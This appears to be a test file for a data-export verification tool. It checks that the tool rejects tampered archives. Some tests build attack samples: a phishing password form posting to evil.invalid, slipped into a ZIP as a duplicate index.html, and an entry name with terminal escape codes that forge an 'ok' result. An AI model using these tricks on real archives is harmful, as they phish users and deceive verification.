import fs from "node:fs";
import path from "node:path";
import { execFile, execFileSync } from "node:child_process";
import { createHash, generateKeyPairSync } from "node:crypto";
import zlib from "node:zlib";
import { expect } from "chai";
import { ExportRow } from "../../src/entities";
import { purgeExpiredExports } from "../../src/export/purge";
import { ZipReader } from "../../src/export/zipReader";
import { ZipWriter } from "../../src/export/zip";
import { keyFromPrivatePem, signDocument } from "../../src/certificates/signing";
import { describeEachDatabase, tempDir } from "../support/databases";
import { TestService } from "../support/harness";
import { ScriptedConnector } from "../support/scriptedConnector";
import { completedRequest, download, exportLink, FAST, ticketingConnector } from "./support";

const BIN = path.resolve(__dirname, "../../../bin/dsr.js");

/** Runs `dsr` as a user would, with only the given environment. */
function dsr(args: string[], env: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [BIN, ...args], { env: { PATH: process.env.PATH ?? "", ...env } }, (error, stdout, stderr) =>
      resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

/**
 * A copy of ZIP `bytes` with one more stored entry `name` (written after the last one, listed last in
 * the central directory), as someone who edits an archive would add it.
 */
function withEntry(bytes: Buffer, name: string, content: string): Buffer {
  const eocd = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = bytes.readUInt16LE(eocd + 10);
  const cdSize = bytes.readUInt32LE(eocd + 12);
  const cdOffset = bytes.readUInt32LE(eocd + 16);
  const data = Buffer.from(content);
  const crc = zlib.crc32(data);
  const header = (signature: number, size: number, entryName: string) => {
    const h = Buffer.alloc(size);
    h.writeUInt32LE(signature, 0);
    return { h, name: Buffer.from(entryName) };
  };
  const local = header(0x04034b50, 30, name);
  local.h.writeUInt16LE(20, 4);
  local.h.writeUInt32LE(crc, 14);
  local.h.writeUInt32LE(data.length, 18);
  local.h.writeUInt32LE(data.length, 22);
  local.h.writeUInt16LE(local.name.length, 26);
  const central = header(0x02014b50, 46, name);
  central.h.writeUInt16LE(20, 4);
  central.h.writeUInt16LE(20, 6);
  central.h.writeUInt32LE(crc, 16);
  central.h.writeUInt32LE(data.length, 20);
  central.h.writeUInt32LE(data.length, 24);
  central.h.writeUInt16LE(central.name.length, 28);
  central.h.writeUInt32LE(cdOffset, 42);
  const added = Buffer.concat([local.h, local.name, data]);
  const end = Buffer.from(bytes.subarray(eocd, eocd + 22));
  end.writeUInt16LE(count + 1, 8);
  end.writeUInt16LE(count + 1, 10);
  end.writeUInt32LE(cdSize + 46 + central.name.length, 12);
  end.writeUInt32LE(cdOffset + added.length, 16);
  return Buffer.concat([bytes.subarray(0, cdOffset), added, bytes.subarray(cdOffset, cdOffset + cdSize), central.h, central.name, end]);
}

/** A ZIP archive with no entries (its end of central directory record alone). */
const EMPTY_ZIP = Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array(18).fill(0)]);

/** A copy of ZIP `bytes` whose entry `name` says `other` (of the same length) in its local header, the central directory unchanged. */
function renamedLocally(bytes: Buffer, name: string, other: string): Buffer {
  const copy = Buffer.from(bytes);
  const eocd = copy.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  for (let at = copy.readUInt32LE(eocd + 16); copy.readUInt32LE(at) === 0x02014b50; ) {
    const nameLength = copy.readUInt16LE(at + 28);
    if (copy.toString("utf8", at + 46, at + 46 + nameLength) === name) {
      copy.write(other, copy.readUInt32LE(at + 42) + 30, "utf8");
      return copy;
    }
    at += 46 + nameLength + copy.readUInt16LE(at + 30) + copy.readUInt16LE(at + 32);
  }
  throw new Error(`no ${name} in the archive`);
}

describeEachDatabase("export commands and retention", (db) => {
  let t: TestService;
  let env: Record<string, string>;
  before(async () => {
    const account = new ScriptedConnector({ name: "account-db", categories: ["ACCOUNT"] }).seed("ada.lovelace@example.com", 3);
    t = await new TestService(db(), FAST, [account, ticketingConnector()]).start();
    env = { DSR_DATA_DIR: t.service.services.config.dataDir, DSR_LOG_LEVEL: "silent" };
  });
  after(async () => {
    await t?.stop();
  });

  const storedFile = async (requestId: string) => {
    const row = await t.ds.getRepository(ExportRow).findOneByOrFail({ requestId });
    return path.join(t.service.services.config.dataDir, "exports", row.objectKey);
  };

  it("dsr export verify checks an encrypted export with the configured key, and a downloaded ZIP without one", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const encrypted = await storedFile(id);
    const ok = await dsr(["export", "verify", encrypted, "--portability"], env);
    expect(ok.code, ok.stderr).to.equal(0);
    expect(ok.stdout).to.match(new RegExp(`^ok: 6 files match their sha256 \\(19 records, request ${id}\\)`));
    const out = path.join(tempDir(), "saved.zip");
    const saved = await dsr(["export", "download", (await exportLink(t, id)).url, "--out", out], {});
    expect(saved.code, saved.stderr).to.equal(0);
    const plain = await dsr(["export", "verify", out], { DSR_DATA_DIR: tempDir() });
    expect(plain.code, plain.stderr).to.equal(0);
  });

  it("dsr export verify --public-key checks signature.json: a rewritten manifest, a removed signature, another key's signature all fail", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const got = await download((await exportLink(t, id)).url);
    const keyFile = path.join(tempDir(), "service-key.pem");
    fs.writeFileSync(keyFile, await (await fetch(new URL("/.well-known/dsr-certificate-key.pem", t.url))).text());
    const quiet = { DSR_DATA_DIR: tempDir() };
    // The service's key, from a file or from the service's address.
    for (const key of [keyFile, t.url]) {
      const signed = await dsr(["export", "verify", got.file!, "--public-key", key], quiet);
      expect(signed.code, signed.stdout + signed.stderr).to.equal(0);
      expect(signed.stdout).to.match(new RegExp(`^ok: 6 files match their sha256 \\(19 records, request ${id}\\); manifest.json signed by the given key ed25519:[0-9a-f]{16}\n$`));
    }
    const unchecked = await dsr(["export", "verify", got.file!], quiet);
    expect(unchecked.code).to.equal(0);
    expect(unchecked.stdout).to.match(/; signature.json not checked: pass --public-key/);

    // Archives rebuilt as someone with the files would rebuild them: every entry as it was, but one change.
    const rebuilt = async (change: (name: string, text: string) => string | null) => {
      const reader = ZipReader.open(got.file!);
      const file = path.join(tempDir(), "rebuilt.zip");
      const out = fs.createWriteStream(file);
      const zip = new ZipWriter(out, new Date());
      try {
        for (const e of reader.entries) {
          const text = change(e.name, await reader.text(e.name));
          if (text !== null) await zip.add(e.name, text);
        }
        await zip.finish(out);
      } finally {
        reader.close();
      }
      await new Promise((resolve) => out.close(resolve));
      return file;
    };
    const forger = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
    const cases: Array<[string, (name: string, text: string) => string | null, RegExp]> = [
      // One record fewer in ACCOUNT, claimed by the manifest alone: every checksum still matches.
      ["a rewritten manifest", (name, text) => (name === "manifest.json" ? text.replace('"records": 3', '"records": 2') : text), /^problem: manifest\.json: changed since the service signed it/m],
      ["a removed signature", (name, text) => (name === "signature.json" ? null : text), /^problem: signature\.json is missing/m],
      ["another key's signature", (name, text) => (name === "signature.json" ? signDocument(JSON.parse(text).certificate, keyFromPrivatePem(forger)) : text), /^problem: signature\.json: signed by key ed25519:[0-9a-f]{16}, not by the given key/m],
    ];
    for (const [label, change, problem] of cases) {
      const file = await rebuilt(change);
      const without = await dsr(["export", "verify", file], quiet);
      expect(without.code, `${label} without a key: ${without.stdout}`).to.equal(0);
      const result = await dsr(["export", "verify", file, "--public-key", keyFile], quiet);
      expect(result.code, `${label}: ${result.stdout}`).to.equal(1);
      expect(result.stdout, label).to.match(problem);
      expect(result.stdout, label).not.to.match(/^ok:/m);
    }
    const noKey = await dsr(["export", "verify", got.file!, "--public-key", path.join(tempDir(), "none.pem")], quiet);
    expect(noKey.code).to.equal(2);
    expect(noKey.stderr).to.match(/^dsr: cannot read .*none\.pem \(ENOENT\): name a PEM public key file/);
  });

  it("dsr export verify refuses an archive with an entry added under a name it lists, which unzip would open instead", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const got = await download((await exportLink(t, id)).url);
    const bytes = fs.readFileSync(got.file!);
    const phishing = '<!DOCTYPE html><form action="https://evil.invalid/">Enter your password to see your data</form>';
    const cases = {
      // A second index.html after the first: unzip, Python's zipfile and most archive tools show this one.
      "second index.html": withEntry(bytes, "index.html", phishing),
      // README.txt in the directory, index.html in its own header (the name a streaming reader extracts it under).
      "a header naming another file": renamedLocally(bytes, "README.txt", "index.html"),
    };
    // What unzip opens as index.html is the added one.
    const first = path.join(tempDir(), "added.zip");
    fs.writeFileSync(first, cases["second index.html"]);
    const unzipped = tempDir();
    execFileSync("unzip", ["-o", "-q", first, "-d", unzipped]);
    expect(fs.readFileSync(path.join(unzipped, "index.html"), "utf8")).to.equal(phishing);
    for (const [label, archive] of Object.entries(cases)) {
      const file = path.join(tempDir(), "edited.zip");
      fs.writeFileSync(file, archive);
      const result = await dsr(["export", "verify", file], { DSR_DATA_DIR: tempDir() });
      expect(result.code, `${label}: ${result.stdout}`).to.equal(1);
      expect(result.stdout, label).to.match(/^problem: .*(index\.html|README\.txt)/m);
      expect(result.stdout, label).not.to.match(/^ok:/m);
    }
  });

  it("dsr export verify writes what an archive names with its control characters escaped: an entry's name cannot redraw the terminal into an ok", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const got = await download((await exportLink(t, id)).url);
    // Up a line, clear it, back to its start, and a line the tool would print for a good archive.
    const forged = `\x1b[1A\x1b[2K\rok: 6 files match their sha256 (19 records, request ${id}); manifest.json signed by the given key ed25519:0123456789abcdef\x1b[8m`;
    const file = path.join(tempDir(), "crafted.zip");
    fs.writeFileSync(file, withEntry(fs.readFileSync(got.file!), forged, "x"));
    const result = await dsr(["export", "verify", file], { DSR_DATA_DIR: tempDir() });
    expect(result.code).to.equal(1);
    expect(result.stdout).not.to.match(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
    expect(result.stdout).to.equal(`problem: \\u001b[1A\\u001b[2K\\u000dok: 6 files match their sha256 (19 records, request ${id}); manifest.json signed by the given key ed25519:0123456789abcdef\\u001b[8m is in the archive but not in the manifest\n`);
    // A good archive's manifest with a request id that conceals what follows it: that signature.json was not checked.
    const dir = tempDir();
    execFileSync("unzip", ["-q", got.file!, "-d", dir]);
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, "manifest.json"), "utf8")) as { request: { id: string } };
    manifest.request.id = `${id}); manifest.json signed by the given key ed25519:0123456789abcdef\x1b[8m`;
    fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
    const edited = path.join(tempDir(), "edited.zip");
    execFileSync("zip", ["-q", "-X", "-D", "-r", edited, "."], { cwd: dir });
    const unchecked = await dsr(["export", "verify", edited], { DSR_DATA_DIR: tempDir() });
    expect(unchecked.code).to.equal(0);
    expect(unchecked.stdout).to.equal(`ok: 6 files match their sha256 (19 records, request ${id}); manifest.json signed by the given key ed25519:0123456789abcdef\\u001b[8m); signature.json not checked: pass --public-key with the service's published key\n`);
  });

  it("dsr export verify and decrypt answer a file they cannot read, or an archive whose manifest is not one, in words and with their exit code", async () => {
    const dir = tempDir();
    const missing = path.join(dir, "missing.zip");
    for (const args of [["verify", missing], ["verify", dir], ["decrypt", missing, "--out", path.join(dir, "out.zip")]]) {
      const result = await dsr(["export", ...args], { DSR_DATA_DIR: tempDir() });
      expect(result.code, result.stderr).to.equal(2);
      expect(result.stderr).to.match(/^dsr: cannot read .* \((ENOENT|EISDIR)\): name an export file/);
    }
    for (const manifest of ["null", "{}", "{not json", '{"request":{},"files":[null],"categories":[]}']) {
      const file = path.join(dir, "odd.zip");
      fs.writeFileSync(file, withEntry(withEntry(EMPTY_ZIP, "manifest.json", manifest), "index.html", "<p>hi</p>"));
      const result = await dsr(["export", "verify", file], { DSR_DATA_DIR: tempDir() });
      expect(result.code, `${manifest}: ${result.stderr}`).to.equal(1);
      expect(result.stdout, manifest).to.equal("problem: manifest.json is not a manifest of this format (a JSON object with files and categories)\n");
      expect(result.stderr, manifest).to.equal("");
    }
  });

  it("dsr export verify --portability counts a CSV's records against the manifest, as it does a JSON file's", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const got = await download((await exportLink(t, id)).url);
    // Unpacked, one ticket's row dropped from data/support.csv, the manifest's size and sha256 made to match, packed again.
    const dir = tempDir();
    execFileSync("unzip", ["-q", got.file!, "-d", dir]);
    const csvFile = path.join(dir, "data", "support.csv");
    const rows = fs.readFileSync(csvFile, "utf8").split(/\n(?=ticketing,)/);
    fs.writeFileSync(csvFile, rows.slice(0, -1).join("\n") + "\n");
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, "manifest.json"), "utf8")) as { files: Array<{ path: string; bytes: number; sha256: string; records: number }> };
    const entry = manifest.files.find((f) => f.path === "data/support.csv")!;
    const bytes = fs.readFileSync(csvFile);
    Object.assign(entry, { bytes: bytes.length, sha256: createHash("sha256").update(bytes).digest("hex") });
    fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
    const edited = path.join(tempDir(), "edited.zip");
    execFileSync("zip", ["-q", "-X", "-D", "-r", edited, "."], { cwd: dir });
    const result = await dsr(["export", "verify", edited, "--portability"], { DSR_DATA_DIR: tempDir() });
    expect(result.code, result.stdout).to.equal(1);
    expect(result.stdout).to.equal(`problem: data/support.csv: holds ${entry.records - 1} records, the manifest says ${entry.records}\n`);
  });

  it("dsr export verify --portability counts each system's records in a data file, each category's and each connector's, against the manifest", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const got = await download((await exportLink(t, id)).url);
    const dir = tempDir();
    execFileSync("unzip", ["-q", got.file!, "-d", dir]);
    const original = fs.readFileSync(path.join(dir, "manifest.json"), "utf8");
    type Counts = { name: string; records: number };
    type Edited = { files: Array<{ path: string; records: number; connectors: Counts[] }>; categories: Array<{ category: string; records: number; connectors: Counts[] }>; connectors: Counts[] };
    // Each a manifest that tells who held what otherwise than the files do, every checksum still matching (an unsigned archive, or one checked without --public-key).
    const cases: Array<[string, (m: Edited) => void, string]> = [
      ["support tickets put down to the account database", (m) => m.files.filter((f) => f.path.startsWith("data/support.")).forEach((f) => (f.connectors[0].name = "account-db")), "problem: data/support.json: holds 16 records from ticketing, the manifest says 0\nproblem: data/support.json: holds 0 records from account-db, the manifest says 16\n"],
      ["a category counted short", (m) => (m.categories.find((c) => c.category === "ACCOUNT")!.records = 2), "problem: category ACCOUNT: its data files hold 3 records, the manifest says 2\n"],
      ["a category's systems changed", (m) => (m.categories.find((c) => c.category === "SUPPORT")!.connectors = [{ name: "account-db", records: 16 }]), "problem: category SUPPORT: its data files hold ticketing: 16, the manifest says account-db: 16\n"],
      ["a connector's total changed", (m) => (m.connectors.find((c) => c.name === "account-db")!.records = 0), "problem: connector account-db: the data files hold 3 of its records, the manifest says 0\n"],
    ];
    for (const [label, change, problems] of cases) {
      const manifest = JSON.parse(original) as Edited;
      change(manifest);
      fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
      fs.rmSync(path.join(dir, "signature.json"), { force: true });
      const edited = path.join(tempDir(), "edited.zip");
      execFileSync("zip", ["-q", "-X", "-D", "-r", edited, "."], { cwd: dir });
      const result = await dsr(["export", "verify", edited, "--portability"], { DSR_DATA_DIR: tempDir() });
      expect(result.stdout, label).to.equal(problems);
      expect(result.code, label).to.equal(1);
    }
  });

  it("dsr export decrypt writes the ZIP only when the file authenticates", async function () {
    this.timeout(60_000);
    const id = await completedRequest(t);
    const encrypted = await storedFile(id);
    const out = path.join(tempDir(), "plain.zip");
    const good = await dsr(["export", "decrypt", encrypted, "--out", out, "--request", id], env);
    expect(good.code, good.stderr).to.equal(0);
    expect(fs.readFileSync(out).subarray(0, 2).toString()).to.equal("PK");
    const bytes = fs.readFileSync(encrypted);
    bytes[bytes.length - 100] ^= 0x80;
    const tampered = path.join(tempDir(), "tampered.dsrx");
    fs.writeFileSync(tampered, bytes);
    const bad = await dsr(["export", "decrypt", tampered, "--out", `${out}.2`], env);
    expect(bad.code).to.equal(1);
    expect(bad.stderr).to.match(/^dsr: the export failed authentication/);
    expect(fs.existsSync(`${out}.2`)).to.equal(false);
    const otherKey = await dsr(["export", "verify", encrypted], { DSR_DATA_DIR: tempDir() });
    expect(otherKey.code).to.equal(1);
    expect(otherKey.stderr).to.match(/another master key/);
  });

  it("purges exports whose retention ended: file, row and link, with an audit event", async () => {
    const id = await completedRequest(t);
    const file = await storedFile(id);
    const { url } = await exportLink(t, id, 7 * 86400);
    expect(await purgeExpiredExports(t.service.services)).to.include({ exports: 0, stagedRecords: 0, surveyedRecords: 0, rosters: 0 });
    t.clock.advance(30 * 86_400_000);
    const purged = await purgeExpiredExports(t.service.services);
    expect(purged.exports).to.be.at.least(1);
    expect(fs.existsSync(file)).to.equal(false);
    expect(await t.ds.getRepository(ExportRow).countBy({ requestId: id })).to.equal(0);
    const r = (await t.ok(`query($id: ID!) { request(id: $id) { export { id } auditEvents { action } } }`, { id })).request;
    expect(r.export).to.equal(null);
    expect(r.auditEvents.map((e: any) => e.action)).to.include("export.purged");
    t.clock.advance(-30 * 86_400_000);
    expect((await download(url)).status).to.equal(404);
  });
});
